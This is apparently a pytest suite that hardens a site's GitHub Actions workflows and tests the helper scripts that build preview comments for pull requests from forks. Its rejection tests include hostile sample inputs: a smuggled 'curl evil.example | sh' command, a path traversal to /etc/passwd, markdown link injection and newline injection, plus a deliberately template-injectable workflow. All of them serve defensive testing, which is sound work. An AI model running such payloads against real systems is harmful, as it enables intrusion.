"""The GitHub workflows: valid against GitHub's schema, zero zizmor findings, pinned, least privilege.

check-jsonschema (its built-in copy of the SchemaStore workflow schema) and `zizmor --offline`
are pinned in tests/requirements.txt and need no network. A broken workflow fails here with the
tool's own message. Each check is also run on a deliberately broken workflow, so it can fail.
Also unit tests of the scripts the workflows run: scripts/external_links.py (weekly link
check), scripts/changed_pages.py (the preview comment's list and the preview-meta artifact) and
scripts/preview_comment.py (the comment on a fork's pull request, from an untrusted artifact).
"""
from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from conftest import ROOT

from scripts import changed_pages, external_links, preview_comment

WORKFLOWS = sorted((ROOT / ".github/workflows").glob("*.yml"))
ACTIONS = sorted((ROOT / ".github/actions").glob("*/action.yml"))     # the project's own composite actions
SETUP = "$/.github/actions/setup-site"
BIN = Path(sys.executable).parent
USES = re.compile(r"^\s*-?\s*uses:\s*(?P<ref>\S+)(?P<comment>.*)$")


def check_jsonschema(*files: Path, schema: str = "vendor.github-workflows") -> subprocess.CompletedProcess:
    return subprocess.run([str(BIN / "check-jsonschema"), "--builtin-schema", schema, *map(str, files)],
                          capture_output=True, text=True, timeout=120)


def zizmor(path: Path) -> subprocess.CompletedProcess:
    return subprocess.run([str(BIN / "zizmor"), "--offline", "--no-progress", str(path)],
                          capture_output=True, text=True, timeout=120, cwd=path)


def test_there_are_workflows():
    assert {p.name for p in WORKFLOWS} >= {"tests.yml", "deploy.yml", "preview.yml", "preview-comment.yml", "links.yml"}


def test_workflows_match_githubs_schema():
    result = check_jsonschema(*WORKFLOWS)
    assert result.returncode == 0, f"check-jsonschema:\n{result.stdout}{result.stderr}"


def test_local_actions_match_githubs_schema(tmp_path):
    assert ACTIONS, "no .github/actions/*/action.yml"
    result = check_jsonschema(*ACTIONS, schema="vendor.github-actions")
    assert result.returncode == 0, f"check-jsonschema:\n{result.stdout}{result.stderr}"
    broken = tmp_path / "action.yml"
    broken.write_text("name: x\ndescription: y\n", encoding="utf-8")      # no `runs`
    failed = check_jsonschema(broken, schema="vendor.github-actions")
    assert failed.returncode != 0 and "runs" in failed.stdout, failed.stdout


def test_the_site_is_set_up_by_one_shared_action():
    """tests.yml, deploy.yml and preview.yml install the site and Playwright's Chromium through
    .github/actions/setup-site (self-repository reference, as zizmor asks) and pass its `path` output
    as CHROMIUM_PATH; no workflow repeats the install itself."""
    action = yaml.safe_load((ROOT / ".github/actions/setup-site/action.yml").read_text(encoding="utf-8"))
    assert action["runs"]["using"] == "composite" and "path" in action["outputs"]
    assert "playwright install --with-deps chromium" in action["runs"]["steps"][0]["run"]
    for name in ("tests.yml", "deploy.yml", "preview.yml"):
        text = (ROOT / ".github/workflows" / name).read_text(encoding="utf-8")
        (job,) = [job for job in yaml.safe_load(text)["jobs"].values() if any(s.get("uses") == SETUP for s in job.get("steps", []))]
        step = next(s for s in job["steps"] if s.get("uses") == SETUP)
        assert step["id"] == "chromium", name
        assert "CHROMIUM_PATH: ${{ steps.chromium.outputs.path }}" in text, name
    for workflow in WORKFLOWS:
        assert "playwright install" not in workflow.read_text(encoding="utf-8"), f"{workflow.name}: use {SETUP}"


def test_zizmor_finds_nothing():
    result = zizmor(ROOT)
    assert result.returncode == 0 and "No findings to report" in result.stdout + result.stderr, \
        f"zizmor --offline:\n{result.stdout}{result.stderr}"


INSECURE = """\
name: insecure
on:
  pull_request:
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@v4
      - run: echo "${{ github.event.pull_request.title }}"
"""


def test_a_broken_workflow_fails_both_checks(tmp_path):
    workflow = tmp_path / ".github/workflows/insecure.yml"
    workflow.parent.mkdir(parents=True)
    workflow.write_text(INSECURE, encoding="utf-8")
    audit = zizmor(tmp_path)
    out = audit.stdout + audit.stderr
    assert audit.returncode != 0
    for finding in ("unpinned-uses", "artipacked", "template-injection", "excessive-permissions"):
        assert f"[{finding}]" in out, f"zizmor did not report {finding}:\n{out}"
    workflow.write_text(INSECURE.replace("    runs-on: ubuntu-24.04\n", ""), encoding="utf-8")
    schema = check_jsonschema(workflow)
    assert schema.returncode != 0 and "runs-on" in schema.stdout, schema.stdout


def test_every_action_is_pinned_to_a_commit_with_its_version():
    loose = []
    for workflow in WORKFLOWS + ACTIONS:
        for number, line in enumerate(workflow.read_text(encoding="utf-8").splitlines(), 1):
            match = USES.match(line)
            if match and not match["ref"].startswith(("./", "$/")):     # the repository's own actions
                if not (re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}", match["ref"]) and re.search(r"# v\d+\.\d+\.\d+$", match["comment"])):
                    loose.append(f"{workflow.relative_to(ROOT)}:{number}: {line.strip()}")
    assert not loose, "pin each action to a full commit SHA with a '# vX.Y.Z' comment:\n" + "\n".join(loose)


def test_least_privilege():
    """No workflow grants anything by default; every job says what it needs; checkouts keep no token."""
    for workflow in WORKFLOWS:
        data = yaml.safe_load(workflow.read_text(encoding="utf-8"))
        assert data.get("permissions") == {}, f"{workflow.name}: set `permissions: {{}}` at the top"
        for name, job in data["jobs"].items():
            assert "permissions" in job, f"{workflow.name}: job {name} must list its permissions"
            for step in job.get("steps", []):
                if str(step.get("uses", "")).startswith("actions/checkout@"):
                    assert step.get("with", {}).get("persist-credentials") is False, f"{workflow.name}: {name} checkout keeps credentials"


def test_link_check_never_runs_on_pull_requests():
    triggers = yaml.safe_load((ROOT / ".github/workflows/links.yml").read_text(encoding="utf-8"))[True]   # YAML reads `on:` as True
    assert set(triggers) == {"schedule", "workflow_dispatch"}


def triggers_of(workflow: Path) -> set[str]:
    triggers = yaml.safe_load(workflow.read_text(encoding="utf-8"))[True]
    return set(triggers if isinstance(triggers, dict) else [triggers])


def test_previews_use_pull_request_not_pull_request_target():
    """A PR's code runs only under `pull_request` (read-only for forks). The one privileged
    trigger is preview-comment.yml's workflow_run, and the only zizmor ignore is on that line."""
    for workflow in WORKFLOWS:
        assert "pull_request_target" not in triggers_of(workflow), workflow.name
        if workflow.name != "preview-comment.yml":
            assert "workflow_run" not in triggers_of(workflow), workflow.name
    ignores = [(w.name, line.strip()) for w in WORKFLOWS for line in w.read_text(encoding="utf-8").splitlines() if "zizmor:" in line]
    assert len(ignores) == 1 and ignores[0][0] == "preview-comment.yml", ignores
    assert ignores[0][1].startswith("workflow_run:  # zizmor: ignore[dangerous-triggers] no PR code runs here"), ignores


def test_the_fork_comment_workflow_runs_no_pull_request_code():
    """preview-comment.yml (workflow_run, may comment): it checks out only scripts/preview_comment.py
    from the default branch, downloads only preview-meta, installs and builds nothing, and puts
    event data in env, not in scripts."""
    path = ROOT / ".github/workflows/preview-comment.yml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert triggers_of(path) == {"workflow_run"} and data[True]["workflow_run"] == {"workflows": ["preview"], "types": ["completed"]}
    preview_name = yaml.safe_load((ROOT / ".github/workflows/preview.yml").read_text(encoding="utf-8"))["name"]
    assert preview_name == "preview"
    (job,) = data["jobs"].values()
    assert job["permissions"] == {"actions": "read", "contents": "read", "pull-requests": "write"}
    assert "head_repository.full_name != github.repository" in job["if"]
    uses = [step["uses"].split("@")[0] for step in job["steps"] if "uses" in step]
    assert uses == ["actions/checkout", "actions/download-artifact", "marocchino/sticky-pull-request-comment"]
    checkout, download = (next(s for s in job["steps"] if s.get("uses", "").startswith(name)) for name in uses[:2])
    assert checkout["with"] == {"persist-credentials": False, "ref": "${{ github.event.repository.default_branch }}",
                                "sparse-checkout": "scripts/preview_comment.py", "sparse-checkout-cone-mode": False}
    assert download["with"]["name"] == "preview-meta"
    scripts = "\n".join(step.get("run", "") for step in job["steps"])
    assert "${{" not in scripts
    assert not re.search(r"\b(make|pip|npm|\.venv|mkdocs|pytest|bash|source)\b", scripts), scripts
    assert set(re.findall(r"python3 (\S+)", scripts)) == {"scripts/preview_comment.py"}


def test_without_its_ignore_comment_zizmor_rejects_the_workflow_run(tmp_path):
    """The suppression is needed and narrow: without it zizmor flags the trigger (and nothing else)."""
    workflows = tmp_path / ".github/workflows"
    workflows.mkdir(parents=True)
    text = (ROOT / ".github/workflows/preview-comment.yml").read_text(encoding="utf-8")
    (workflows / "preview-comment.yml").write_text(re.sub(r"  # zizmor: ignore\[[^\]]+\].*", "", text), encoding="utf-8")
    audit = zizmor(tmp_path)
    out = audit.stdout + audit.stderr
    assert audit.returncode != 0 and "[dangerous-triggers]" in out, out
    assert len(set(re.findall(r"\[([a-z-]+)\]", out))) == 1, out


# --- scripts/external_links.py --------------------------------------------------------------------

PAGE = """---
title: A page
---

# A page

A fact.[^a] See [the timeline](timeline.md) and <https://auto.example/x>.

```text
https://in-code.example/ is not a link
```

[^a]: Source, [Title (2024)](https://example.org/wiki/A_(b)), 2024.
[^b]: Other, [T](https://example.org/two), and [again](https://example.org/wiki/A_(b)).
"""

DATA = """- id: x
  source: https://data.example/one
  officeholders:
    - name: A
      source: https://data.example/two
  text: Not a URL https://inline.example/ in text.
"""


def test_extract_links_with_page_and_line(tmp_path):
    (tmp_path / "docs").mkdir()
    (tmp_path / "data").mkdir()
    (tmp_path / "docs/a.md").write_text(PAGE, encoding="utf-8")
    (tmp_path / "data/x.yml").write_text(DATA, encoding="utf-8")
    assert external_links.extract(tmp_path) == {
        "https://auto.example/x": ["docs/a.md:7"],
        "https://data.example/one": ["data/x.yml:2"],
        "https://data.example/two": ["data/x.yml:5"],
        "https://example.org/two": ["docs/a.md:14"],
        "https://example.org/wiki/A_(b)": ["docs/a.md:13", "docs/a.md:14"],
    }


def test_report_lists_dead_urls_with_their_places():
    lychee = {"error_map": {"links/links.txt": [
        {"url": "https://example.org/two", "status": {"text": "404 Not Found", "code": 404}},
        {"url": "https://gone.example/", "status": {"text": "Timeout | retried"}}]}}
    dead = external_links.failures(lychee)
    assert dead == {"https://example.org/two": "404 Not Found", "https://gone.example/": "Timeout | retried"}
    body = external_links.report(dead, {"https://example.org/two": ["docs/a.md:14", "data/x.yml:3"]}, "2026-11-30")
    assert body.startswith("The weekly check of the site's outside links (2026-11-30) could not reach 2 of 1 URLs")
    assert "| <https://example.org/two> | 404 Not Found | docs/a.md:14, data/x.yml:3 |" in body
    assert "| <https://gone.example/> | Timeout / retried | (not in the extracted list) |" in body
    assert "No dead links." in external_links.report({}, {"u": ["p:1"]}, "2026-11-30")
    assert external_links.failures({"fail_map": {"f": [{"url": "https://old.example/", "status": "Failed"}]}}) == {"https://old.example/": "Failed"}


def test_the_real_site_has_links_to_check():
    places = external_links.extract(ROOT)
    assert len(places) > 50 and all(url.startswith(("https://", "http://")) for url in places)
    assert all(re.fullmatch(r"(docs/.+\.md|data/.+\.yml):\d+", p) for where in places.values() for p in where)


def test_extract_command_writes_list_and_map(tmp_path):
    result = subprocess.run([sys.executable, "-m", "scripts.external_links", "extract", str(tmp_path)], cwd=ROOT,
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    urls = (tmp_path / "links.txt").read_text(encoding="utf-8").split()
    assert urls == list(json.loads((tmp_path / "links.json").read_text(encoding="utf-8")))


# --- scripts/changed_pages.py ---------------------------------------------------------------------

@pytest.mark.parametrize("src, url", [("docs/index.md", ""), ("docs/since.md", "since/"),
                                      ("docs/report/sanctions.md", "report/sanctions/"), ("docs/report/index.md", "report/")])
def test_changed_pages_link_each_page_at_its_hosted_url(tmp_path, src, url):
    """The preview link is hooks/downloads.hosted_url under the preview's address."""
    (tmp_path / src).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / src).write_text("---\ntitle: T\n---\n", encoding="utf-8")
    assert changed_pages.render([src], "https://x.github.io/site/pr-preview/pr-7/", tmp_path) == \
        f"- [T](https://x.github.io/site/pr-preview/pr-7/{url}) (`{src}`)\n"


def test_changed_pages_list():
    out = changed_pages.render(["docs/since.md", "docs/gone.md", "data/timeline.yml", "tests/test_x.py", "README.md"],
                               "https://x.github.io/site/pr-preview/pr-7/")
    assert out == ("- `docs/gone.md` (removed)\n"
                   "- [Since the report](https://x.github.io/site/pr-preview/pr-7/since/) (`docs/since.md`)\n"
                   "- Files that can change every page: `data/timeline.yml`\n")
    assert changed_pages.render(["README.md"], "u/").startswith("- No page changed")


def test_changed_pages_meta_for_the_fork_comment():
    data = changed_pages.meta(["docs/since.md", "docs/gone.md", "data/timeline.yml", "README.md"], 7, "a" * 40, True)
    assert data == {"pr": 7, "head_sha": "a" * 40, "fork": True,
                    "pages": [{"src": "docs/since.md", "title": "Since the report"}],
                    "removed": ["docs/gone.md"], "site_wide": ["data/timeline.yml"]}


def test_changed_pages_command_writes_the_meta_artifact(tmp_path):
    head = subprocess.run(["git", "rev-parse", "HEAD"], cwd=ROOT, capture_output=True, text=True, check=True).stdout.strip()
    # HEAD...HEAD (nothing changed): works in a shallow clone too, as CI's checkout is.
    result = subprocess.run([sys.executable, "-m", "scripts.changed_pages", head, head, "https://x/pr-preview/pr-3",
                             "--meta", str(tmp_path / "meta.json"), "--pr", "3", "--fork", "true"],
                            cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    data = json.loads((tmp_path / "meta.json").read_text(encoding="utf-8"))
    assert data == {"pr": 3, "head_sha": head, "fork": True, "pages": [], "removed": [], "site_wide": []}
    assert result.stdout.startswith("- No page changed")


# --- scripts/preview_comment.py: the comment on a fork's pull request ----------------------------

HEAD = "c0ffee" + "0" * 34
RUN = preview_comment.Run(HEAD, "someone/fork", "owner/site", "https://github.com/owner/site/actions/runs/42")
GOOD_META = {"pr": 12, "head_sha": HEAD, "fork": True,
             "pages": [{"src": "docs/since.md", "title": "Since the report"},
                       {"src": "docs/report/sanctions.md", "title": "U.S. and allied responses"}],
             "removed": ["docs/old.md"], "site_wide": ["data/timeline.yml"]}
PULL = {"number": 12, "state": "open", "head": {"sha": HEAD, "repo": {"full_name": "someone/fork"}}}
ARTIFACTS = {"artifacts": [{"id": 99, "name": "preview-meta", "expired": False},
                           {"id": 4567890123, "name": "preview-site", "expired": False, "expires_at": "2026-12-14T10:00:00Z"}]}


def test_a_fork_gets_a_comment_saying_where_the_artifact_is():
    meta = preview_comment.read_meta(json.dumps(GOOD_META), RUN)
    preview_comment.confirm(meta, PULL, RUN)
    text = preview_comment.comment(meta, RUN, preview_comment.artifact(ARTIFACTS, RUN))
    assert text.startswith(f"**Preview as an artifact** (built from {HEAD}).\n")
    assert ("[download the artifact **preview-site**](https://github.com/owner/site/actions/runs/42/artifacts/4567890123) "
            "from [the preview run](https://github.com/owner/site/actions/runs/42)") in text
    assert "GitHub keeps it until 2026-12-14." in text and "comes from a fork" in text
    assert ("**Changed pages:**\n\n- `docs/old.md` (removed)\n- U.S. and allied responses (`docs/report/sanctions.md`)\n"
            "- Since the report (`docs/since.md`)\n- Files that can change every page: `data/timeline.yml`\n") in text
    no_artifact = preview_comment.comment(meta, RUN, preview_comment.artifact({"artifacts": []}, RUN))
    assert "download the artifact **preview-site** from [the preview run](https://github.com/owner/site/actions/runs/42) (under Artifacts)" in no_artifact


def test_the_meta_artifact_changed_pages_writes_is_accepted():
    data = changed_pages.meta(["docs/since.md", "docs/index.md", "mkdocs.yml"], 12, HEAD, True)
    meta = preview_comment.read_meta(json.dumps(data), RUN)
    assert meta.pr == 12 and meta.pages == (("docs/index.md", "North Korea-Russia relations, explained"), ("docs/since.md", "Since the report"))


def test_titles_from_the_fork_become_plain_words():
    meta = dict(GOOD_META, pages=[{"src": "docs/a.md", "title": "Hi @owner ![x](https://evil.example/p.png) <img src=x> `code` #12 **bold** _it_ " + "long " * 40}])
    (title,) = [t for _, t in preview_comment.read_meta(json.dumps(meta), RUN).pages]
    assert not set("@!<>[]`#*_/:") & set(title), title
    assert title.startswith("Hi owner x (https evil.example p.png) img src x code 12 bold it long") and len(title) <= 80 and title.endswith("…")
    assert preview_comment.plain("What's new (2026) – U.S.?") == "What's new (2026) – U.S.?"


MALICIOUS = [   # (what the fork's code could write into meta.json, what the rejection says)
    ({"pr": "12; curl evil.example | sh"}, "'pr' must be a pull request number"),
    ({"pr": "12"}, "'pr' must be a pull request number"),
    ({"pr": True}, "'pr' must be a pull request number"),
    ({"pr": -3}, "'pr' must be a pull request number"),
    ({"pr": 12.0}, "'pr' must be a pull request number"),
    ({"pr": 10 ** 12}, "'pr' must be a pull request number"),
    ({"head_sha": "b" * 40}, "'head_sha' is not the commit this run built"),
    ({"fork": False}, "'fork' says False"),
    ({"pages": [{"src": "docs/../../etc/passwd.md", "title": "x"}]}, "'pages' must be a list of plain file paths"),
    ({"pages": [{"src": "docs/a`.md", "title": "x"}]}, "'pages' must be a list of plain file paths"),
    ({"pages": [{"src": "docs/a.md)\n\n[click](https://evil.example", "title": "x"}]}, "'pages' must be a list of plain file paths"),
    ({"pages": "- [click me](https://evil.example)"}, "'pages' must be a list of {src, title}"),
    ({"removed": ["README.md"]}, "'removed' must be a list of plain file paths"),
    ({"site_wide": ["data/x.yml` @owner"]}, "'site_wide' must be a list of plain file paths"),
    ({"pages": [{"src": "docs/a.md", "title": "x" * 70_000}]}, "more than 64000"),
]


@pytest.mark.parametrize("change, reason", MALICIOUS, ids=[r for _, r in MALICIOUS])
def test_a_malicious_meta_artifact_is_rejected(change, reason):
    with pytest.raises(preview_comment.Rejected, match=re.escape(reason)):
        preview_comment.read_meta(json.dumps(dict(GOOD_META, **change)), RUN)


def test_meta_that_is_not_an_object_or_names_another_run_s_pull_request_is_rejected():
    for text, reason in [("[1, 2]", "must hold an object"), ("{nope", "not JSON")]:
        with pytest.raises(preview_comment.Rejected, match=reason):
            preview_comment.read_meta(text, RUN)
    listed = preview_comment.Run(HEAD, "someone/fork", "owner/site", RUN.url, (5,))
    with pytest.raises(preview_comment.Rejected, match="not one GitHub lists for this run"):
        preview_comment.read_meta(json.dumps(GOOD_META), listed)


@pytest.mark.parametrize("pull, reason", [
    (dict(PULL, state="closed"), "is not open"),
    (dict(PULL, number=13), "is not open"),
    (dict(PULL, head={"sha": "d" * 40, "repo": {"full_name": "someone/fork"}}), "not the commit this run built"),
    (dict(PULL, head={"sha": HEAD, "repo": {"full_name": "other/fork"}}), "does not come from someone/fork"),
])
def test_the_pull_request_must_match_the_run(pull, reason):
    with pytest.raises(preview_comment.Rejected, match=reason):
        preview_comment.confirm(preview_comment.read_meta(json.dumps(GOOD_META), RUN), pull, RUN)


def run_script(tmp_path, *command, meta=GOOD_META, **env):
    (tmp_path / "meta.json").write_text(meta if isinstance(meta, str) else json.dumps(meta), encoding="utf-8")
    (tmp_path / "pull.json").write_text(json.dumps(PULL), encoding="utf-8")
    (tmp_path / "artifacts.json").write_text(json.dumps(ARTIFACTS), encoding="utf-8")
    env = {"HEAD_SHA": HEAD, "HEAD_REPO": "someone/fork", "REPOSITORY": "owner/site", "RUN_URL": RUN.url,
           "RUN_PRS": "[]", "PATH": "/usr/bin:/bin", **env}
    args = [str(tmp_path / name) if name.endswith(".json") else name for name in command]
    # As the workflow runs it: the runner's python3, the file alone, no project on the path.
    return subprocess.run(["python3", str(ROOT / "scripts/preview_comment.py"), *args], cwd=tmp_path, env=env,
                          capture_output=True, text=True, timeout=60)


def test_the_script_as_the_workflow_runs_it(tmp_path):
    number = run_script(tmp_path, "number", "meta.json")
    assert (number.returncode, number.stdout) == (0, "number=12\n"), number.stderr
    composed = run_script(tmp_path, "compose", "meta.json", "pull.json", "artifacts.json")
    assert composed.returncode == 0, composed.stderr
    assert composed.stdout == preview_comment.comment(preview_comment.read_meta(json.dumps(GOOD_META), RUN), RUN,
                                                      ("https://github.com/owner/site/actions/runs/42/artifacts/4567890123", "2026-12-14"))


def test_the_script_writes_nothing_for_a_malicious_artifact(tmp_path):
    evil = json.dumps(dict(GOOD_META, pr="12\nnumber=1"))
    for command in (["number", "meta.json"], ["compose", "meta.json", "pull.json", "artifacts.json"]):
        result = run_script(tmp_path, *command, meta=evil)
        assert (result.returncode, result.stdout) == (1, ""), result
        assert result.stderr.startswith("::error title=Preview comment not written::meta.json: 'pr' must be a pull request number, not '12\\nnumber=1'"), result.stderr
    same_repo = run_script(tmp_path, "compose", "meta.json", "pull.json", "artifacts.json", meta=dict(GOOD_META, fork=False),
                           HEAD_REPO="owner/site")
    assert same_repo.returncode == 1 and "not a fork's pull request" in same_repo.stderr
    forged_event = run_script(tmp_path, "number", "meta.json", HEAD_SHA="not-a-sha")
    assert forged_event.returncode == 1 and "must come from the workflow_run event" in forged_event.stderr
